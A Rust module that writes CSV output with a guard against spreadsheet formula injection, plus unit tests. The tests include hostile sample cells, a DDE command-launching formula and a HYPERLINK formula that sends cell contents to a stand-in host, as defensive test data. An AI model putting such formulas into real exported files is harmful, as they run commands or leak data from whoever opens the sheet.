//! CSV that no spreadsheet executes.

use std::io;

use serde_json::Value;

pub(crate) fn write(columns: &[&str], rows: &[Vec<Value>]) -> io::Result<Vec<u8>> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(columns)?;
    for row in rows {
        writer.write_record(row.iter().map(|value| inert(&text(value))))?;
    }
    writer.into_inner().map_err(|error| io::Error::other(error.to_string()))
}

/// Lists are joined by spaces; nothing that is listed (ids, points, claims) holds one.
fn text(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(text) => text.clone(),
        Value::Array(items) => items.iter().map(text).collect::<Vec<_>>().join(" "),
        Value::Bool(_) | Value::Number(_) | Value::Object(_) => value.to_string(),
    }
}

/// A cell that begins like a formula gets an apostrophe, which spreadsheets take for "text" and do
/// not show (OWASP, "CSV Injection"). A target is chosen by whoever is blocked: it may be a formula.
fn inert(cell: &str) -> String {
    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if formula { format!("'{cell}") } else { cell.to_owned() }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn no_cell_is_a_formula() {
        for cell in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"] {
            assert_eq!(inert(cell), format!("'{cell}"));
        }
        for cell in ["", "example.org", "192.0.2.1", "a=b", "'=1", "2026-01-01"] {
            assert_eq!(inert(cell), cell);
        }
    }

    #[test]
    fn cells_are_quoted_as_rfc_4180_says() {
        let rows = vec![vec![json!("a,\"b\"\nc"), json!(["x", "y"]), json!(7), json!(null)]];
        let bytes = write(&["one", "two", "three", "four"], &rows).unwrap();
        assert_eq!(
            String::from_utf8(bytes).unwrap(),
            "one,two,three,four\n\"a,\"\"b\"\"\nc\",x y,7,\n"
        );
    }

    #[test]
    fn a_hostile_target_stays_text_in_its_quotes() {
        let rows = vec![vec![json!("=HYPERLINK(\"http://x/?\"&A1,\"ok\")")]];
        let text = String::from_utf8(write(&["target"], &rows).unwrap()).unwrap();
        assert!(text.contains("\n\"'=HYPERLINK("), "{text}");
    }
}
